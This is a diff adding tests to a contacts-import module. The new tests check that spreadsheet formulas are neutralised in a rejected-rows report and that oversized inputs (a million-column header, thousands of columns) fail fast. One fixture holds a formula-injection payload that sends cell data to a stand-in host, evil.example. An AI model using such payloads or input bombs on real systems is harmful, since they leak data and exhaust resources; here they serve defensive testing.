@@ -95,6 +95,24 @@ def test_formulas_import_as_text_and_export_neutralised(campaign_db, tmp_path):
     assert risky == []
 
 
+def test_the_rejected_rows_report_neutralises_formulas(campaign_db, tmp_path):
+    import csv
+
+    path = tmp_path / "formulas.csv"
+    path.write_text(
+        "Name,Phone\n"
+        'Ann,"=HYPERLINK(""http://evil.example/?""&A1,""details"")"\n'
+        "Bob,@SUM(1+1)\n"
+        "Cy,-2+3\n"
+        "Di,+1 (602) 555\n", encoding="utf-8")
+    report = tmp_path / "rejected.csv"
+    run_import(campaign_db["campaign_id"], path, db=campaign_db["db"], report_path=report)
+    with open(report, newline="", encoding="utf-8") as handle:
+        values = [row["value"] for row in csv.DictReader(handle)]
+    # a spreadsheet opening the report runs none of the file's text; a phone-like value stays as typed
+    assert values == ["'=HYPERLINK(\"http://evil.example/?\"&A1,\"details\")", "'@SUM(1+1)", "'-2+3", "+1 (602) 555"]
+
+
 def test_header_only_files_are_clear_errors(campaign_db, tmp_path):
     import xlsxwriter
 
@@ -157,6 +175,19 @@ def big_file(kind: str, path) -> None:
             handle.write(b"Name,Phone\n\"")
             handle.write(b"A" * 50 * 2**20)
             handle.write(b"\",+16025550001\n")
+    elif kind == "million_columns":  # 1 MB: a header line of commas
+        with open(path, "wb") as handle:
+            handle.write(b"Phone" + b"," * 1_000_000 + b"\n+16025550001\n")
+    elif kind == "columns_5000":  # 60 s and climbing with the square of the columns before the limit
+        header = ",".join(["Phone", *(f"c{i}" for i in range(5000))])
+        path.write_text(f"{header}\n+16025550001{',v' * 5000}\n")
+    elif kind == "wide_sheet":
+        import xlsxwriter
+
+        with xlsxwriter.Workbook(path) as workbook:
+            sheet = workbook.add_worksheet()
+            sheet.write_row(0, 0, ["Phone", *(f"c{i}" for i in range(3000))])
+            sheet.write_row(1, 0, ["+16025550001", *(["v"] * 3000)])
     elif kind == "million_empty_rows":
         with open(path, "wb") as handle:
             handle.write(b"Name,Phone,Company\n" + b",,\n" * 1_000_000 + b"Ann,+16025550001,Acme\n")
@@ -170,6 +201,10 @@ def big_file(kind: str, path) -> None:
         ("cell_50mb", ".csv", "error: cell_50mb.csv: row 2, column 1: a cell of 52,428,800 characters", 30),
         ("million_empty_rows", ".csv", "ok rows=1 imported=1 invalid=0", 30),  # blank records are skipped
         ("zip_bomb", ".xlsx", "error: zip_bomb.xlsx: unpacks to 1,100 MB", 10),
+        # every field of the header is a column (13 GB and hours for the million before the limit)
+        ("million_columns", ".csv", "error: million_columns.csv: row 1 has 1,000,001 fields (at most 1,000", 10),
+        ("columns_5000", ".csv", "error: columns_5000.csv: row 1 has 5,001 fields (at most 1,000", 10),
+        ("wide_sheet", ".xlsx", "error: wide_sheet.xlsx: 3,001 columns (at most 1,000)", 10),
     ],
 )
 def test_huge_inputs_are_bounded_in_time_and_memory(campaign_db, tmp_path, kind, suffix, expected, max_seconds):
@@ -187,6 +222,16 @@ def test_huge_inputs_are_bounded_in_time_and_memory(campaign_db, tmp_path, kind,
     assert figures["peak_mb"] < 1500, figures  # the 50 MB cell and the zip bomb are never blown up in memory
     if expected.startswith("error"):
         assert store_state(campaign_db["db"]) == before
+
+
+def test_a_file_at_the_column_limit_still_imports(campaign_db, tmp_path):
+    from tasks.contacts_import import MAX_COLUMNS
+
+    path = tmp_path / "wide.csv"
+    others = [f"c{i}" for i in range(MAX_COLUMNS - 1)]
+    path.write_text(",".join(["Phone", *others]) + "\n" + "".join(
+        f"+160255500{n:02d}" + ",v" * len(others) + "\n" for n in range(3)))
+    assert attempt(campaign_db, path) == "ok"
 
 
 @pytest.mark.parametrize("data", [
